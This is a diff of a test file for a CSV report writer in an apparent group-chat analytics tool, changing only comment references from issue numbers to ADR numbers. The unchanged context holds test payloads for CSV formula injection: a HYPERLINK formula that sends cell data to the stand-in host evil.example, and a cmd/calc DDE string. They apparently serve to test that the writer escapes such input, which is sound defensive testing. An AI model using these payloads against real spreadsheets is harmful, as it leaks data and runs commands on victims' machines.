@@ -7,7 +7,7 @@ import { writeReportCsv } from '../../../../cli/report/write-csv.js';
 
 const G1 = '120363000000000201@g.us';
 
-/** Subjects and member ids a group admin or a member-link import controls (issue #25 item 7). */
+/** Subjects and member ids a group admin or a member-link import controls (ADR 0014). */
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
   "+1+cmd|' /C calc'!A0",
@@ -103,7 +103,7 @@ describe('writeReportCsv', () => {
     expect(readFileSync(join(dir, 'lurkers.csv'), 'utf8')).toBe(`groupJid,members,lurkers\r\n${G1},2,1\r\n`);
   });
 
-  it('writes each total beside the previous period, the levels, the newcomer funnel and the hours (issue #28 item 3)', async () => {
+  it('writes each total beside the previous period, the levels, the newcomer funnel and the hours (ADR 0025)', async () => {
     dir = mkdtempSync(join(tmpdir(), 'wa-lake-csv-'));
     await writeReportCsv(
       {
